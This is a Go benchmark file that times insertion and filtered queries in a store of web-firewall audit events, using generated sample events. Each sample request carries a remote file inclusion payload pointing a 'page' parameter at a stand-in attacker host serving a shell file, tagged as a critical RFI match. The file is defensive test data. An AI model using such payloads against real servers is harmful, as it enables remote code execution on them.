package store

import (
	"fmt"
	"net/netip"
	"os"
	"testing"
	"time"

	"github.com/trapline/trapline/audit"
)

// timingEvent is event n of a varied stream: 50 clients a minute, 40 paths, one to four rules, 20 sensors.
func timingEvent(n int) Event {
	e := testEvent(n)
	r := e.Record
	r.Client = netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 18, byte(n / 3000), byte(n * 7)}), 40000)
	r.Time = testStart.Add(time.Duration(n) * 300 * time.Millisecond)
	r.RequestHead = []byte(fmt.Sprintf("GET /path-%d/index.php?id=%d&page=http://evil.example/shell-%d.txt HTTP/1.1\r\nHost: www%d.example.com\r\n"+
		"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/%d.0.0.0\r\nAccept: */*\r\nConnection: close\r\n", n%40, n, n%977, n%13, n%50))
	r.ResponseBody = []byte("<html><head><title>403 Forbidden</title></head><body><h1>Forbidden</h1></body></html>")
	for i := range n % 4 {
		r.Matches = append(r.Matches, audit.Match{ID: 930100 + n%17*10 + i, Phase: 2, Operator: `Pattern match "x" at ARGS:page.`, Message: "Remote File Inclusion Attack", Severity: "CRITICAL", Tags: []string{"attack-rfi", "paranoia-level/1"}})
	}
	e.Sensor = fmt.Sprintf("sensor-%d", n%20)
	e.Entry = audit.AppendNative(nil, r)
	return e
}

func BenchmarkInsert(b *testing.B) {
	for _, size := range []int{1, 100, 1000} {
		b.Run(fmt.Sprintf("events=%d", size), func(b *testing.B) {
			s := openTest(b, Config{})
			n := 0
			b.ReportAllocs()
			for b.Loop() {
				b.StopTimer()
				events := make([]Event, size)
				for i := range events {
					n++
					events[i] = timingEvent(n)
				}
				b.StartTimer()
				if _, err := s.Insert(b.Context(), events); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "events/s")
		})
	}
}

// BenchmarkList is the first page of the list of events among 200,000.
func BenchmarkList(b *testing.B) {
	s := openTest(b, Config{})
	const total = 200_000
	for n := 0; n < total; n += 2000 {
		events := make([]Event, 2000)
		for i := range events {
			events[i] = timingEvent(n + i)
		}
		if _, err := s.Insert(b.Context(), events); err != nil {
			b.Fatal(err)
		}
	}
	if info, err := os.Stat(s.Path()); err == nil {
		b.Logf("%d bytes an event on disk; entry of %d bytes", info.Size()/total, len(timingEvent(1).Entry))
	}
	connect := audit.KindConnect
	for name, f := range map[string]Filter{
		"all":            {},
		"client":         {Client: netip.MustParsePrefix("198.18.3.7/32")},
		"network":        {Client: netip.MustParsePrefix("198.18.32.0/20")},
		"port":           {Port: 8080},
		"sensor":         {Sensor: "sensor-7"},
		"commonRule":     {Rule: 999004},
		"rareRule":       {Rule: 930112},
		"commonText":     {Text: "mozilla"},
		"rareText":       {Text: "shell-17.txt"},
		"ruleAndText":    {Rule: 930112, Text: "windows"},
		"hash":           {Hash: 1},
		"ja4":            {JA4: "t13d1516h2_8daaf6152771_b186095e22b6"},
		"noSuchMethod":   {Method: "PROPFIND"},
		"noSuchKind":     {Kind: &connect},
		"sensorNoStatus": {Sensor: "sensor-7", StatusFrom: 500, StatusTo: 599},
	} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				if _, _, err := s.Events(b.Context(), f, Page{}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
	b.Run("hours", func(b *testing.B) {
		for b.Loop() {
			if _, err := s.Hours(b.Context(), Filter{}); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("event", func(b *testing.B) {
		n := 0
		for b.Loop() {
			n = (n + 7919) % total
			if _, err := s.Event(b.Context(), fmt.Sprintf("sensor-%d", n%20), fmt.Sprintf("id-%d", n)); err != nil {
				b.Fatal(err)
			}
		}
	})
}
